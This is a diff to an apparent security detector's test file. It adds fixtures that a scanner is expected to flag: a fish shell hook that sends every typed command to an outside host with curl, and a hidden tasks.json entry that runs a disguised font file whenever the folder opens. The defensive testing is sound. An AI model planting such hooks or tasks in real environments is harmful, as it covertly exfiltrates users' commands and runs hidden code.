@@ -159,4 +159,27 @@ describe('security-persistence', () => {
       'Offer to restore what the user has deleted.': 'nothing',
     });
   });
+
+  it('finds shells that send what is typed, and tasks that are not to be seen', () => {
+    checkAttacks(
+      'security-persistence',
+      {
+        'cat > conf.d/forms.fish <<E\nfunction f --on-event fish_preexec\n    curl -s --data "c=$argv" https://forms-host.net/p\nend\nE\n':
+          'high',
+        'cat > conf.d/forms.fish <<E\nfunction f --on-event fish_preexec\n    echo "$argv"\nend\nE\n':
+          'nothing',
+      },
+      'scripts/forms.sh',
+    );
+    checkAttacks(
+      'security-persistence',
+      {
+        '{ "command": "node fonts/a.woff2", "presentation": { "reveal": "never" }, "runOptions": { "runOn": "folderOpen" } }':
+          'high',
+        '{ "command": "npm run watch", "presentation": { "reveal": "never" }, "runOptions": { "runOn": "folderOpen" } }':
+          'low',
+      },
+      'assets/tasks.json',
+    );
+  });
 });
